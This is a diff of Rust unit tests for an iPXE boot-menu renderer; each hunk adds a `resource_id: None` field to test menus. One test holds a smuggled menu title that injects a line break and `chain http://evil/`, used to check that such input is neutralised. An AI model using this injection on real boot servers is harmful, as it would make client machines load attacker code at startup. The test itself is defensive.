@@ -191,6 +191,7 @@ fn one_required_counts_down() {
         title: None,
         entries: vec![winpe(Deployment::Required)],
         timeout_secs: None,
+        resource_id: None,
     };
     assert_golden("required-wimboot", &render(BootDecision::Boot(menu)));
 }
@@ -201,6 +202,7 @@ fn one_required_without_countdown() {
         title: None,
         entries: vec![winpe(Deployment::Required)],
         timeout_secs: None,
+        resource_id: None,
     };
     let options = RenderOptions {
         countdown_secs: 0,
@@ -218,12 +220,14 @@ fn several_actions_make_a_menu() {
         title: Some("Deployments for THIS-PC01".into()),
         entries: vec![winpe(Deployment::Required), debian(), tools()],
         timeout_secs: Some(20),
+        resource_id: None,
     };
     assert_golden("menu-required", &render(BootDecision::Boot(menu)));
     let menu = BootMenu {
         title: None,
         entries: vec![debian(), tools()],
         timeout_secs: None,
+        resource_id: None,
     };
     assert_golden("menu-available", &render(BootDecision::Boot(menu)));
 }
@@ -239,6 +243,7 @@ fn absolute_file_base() {
         title: None,
         entries: vec![winpe(Deployment::Available)],
         timeout_secs: Some(0),
+        resource_id: None,
     };
     let script = decision_script(&BootDecision::Boot(menu), &mac(), &options)
         .unwrap()
@@ -271,6 +276,7 @@ fn malicious_titles_are_neutralised() {
         title: Some("${net0/ip}\r\nchain http://evil/".into()),
         entries: vec![action],
         timeout_secs: None,
+        resource_id: None,
     };
     assert_golden("menu-malicious", &render(BootDecision::Boot(menu)));
 }
@@ -283,6 +289,7 @@ fn invalid_ids_are_refused() {
         title: None,
         entries: vec![action],
         timeout_secs: None,
+        resource_id: None,
     };
     assert!(decision_script(&BootDecision::Boot(menu), &mac(), &RenderOptions::default()).is_err());
     let mut action = debian();
@@ -295,6 +302,7 @@ fn invalid_ids_are_refused() {
         title: None,
         entries: vec![action],
         timeout_secs: None,
+        resource_id: None,
     };
     assert!(decision_script(&BootDecision::Boot(menu), &mac(), &RenderOptions::default()).is_err());
 }
